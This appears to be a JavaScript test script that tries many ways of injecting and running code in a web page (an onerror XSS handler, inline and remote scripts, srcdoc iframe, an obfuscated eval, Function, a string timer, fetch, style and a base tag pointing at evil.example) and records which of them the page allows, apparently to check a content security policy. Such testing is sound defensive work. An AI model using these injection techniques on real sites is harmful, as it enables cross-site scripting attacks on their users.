// Runs in a page, as what somebody put into it: tries to run or load something by every way, and says
// which of them worked. It begins anew from a timer, because what a debugger evaluates may do more
// than the page may.

const tries = (evilUrl) => [
  () => {
    document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="hit.push(\'handler\')">')
  },
  () => {
    const script = document.createElement('script')
    script.textContent = "hit.push('inline')"
    document.body.append(script)
  },
  () => {
    const script = document.createElement('script')
    script.src = evilUrl
    document.body.append(script)
  },
  () => {
    const frame = document.createElement('iframe')
    frame.srcdoc = "<script>parent.hit.push('srcdoc')</script>"
    document.body.append(frame)
  },
  () => globalThis['ev'.concat('al')]("hit.push('eval')"),
  () => new globalThis.Function("hit.push('function')")(),
  () => setTimeout("hit.push('timer')", 0),
  () => fetch(evilUrl, { mode: 'no-cors' }).then(() => hit.push('fetch')),
  () => {
    document.body.setAttribute('style', 'padding-left: 9px')
    if (getComputedStyle(document.body).paddingLeft === '9px') hit.push('style attribute')
  },
  () => {
    const style = document.createElement('style')
    style.textContent = 'body { padding-right: 9px }'
    document.head.append(style)
    if (getComputedStyle(document.body).paddingRight === '9px') hit.push('style')
  },
  () => {
    const base = document.createElement('base')
    base.href = 'https://evil.example/'
    document.head.append(base)
    if (document.baseURI.startsWith('https://evil')) hit.push('base')
    base.remove()
  },
]

const hit = []
Object.assign(window, {
  hit,
  attack(evilUrl) {
    setTimeout(async () => {
      for (const attempt of tries(evilUrl)) {
        try {
          await attempt()
        } catch {
          // Refused, as it should be.
        }
      }
      setTimeout(() => Object.assign(window, { isOver: true }), 500)
    }, 0)
  },
})
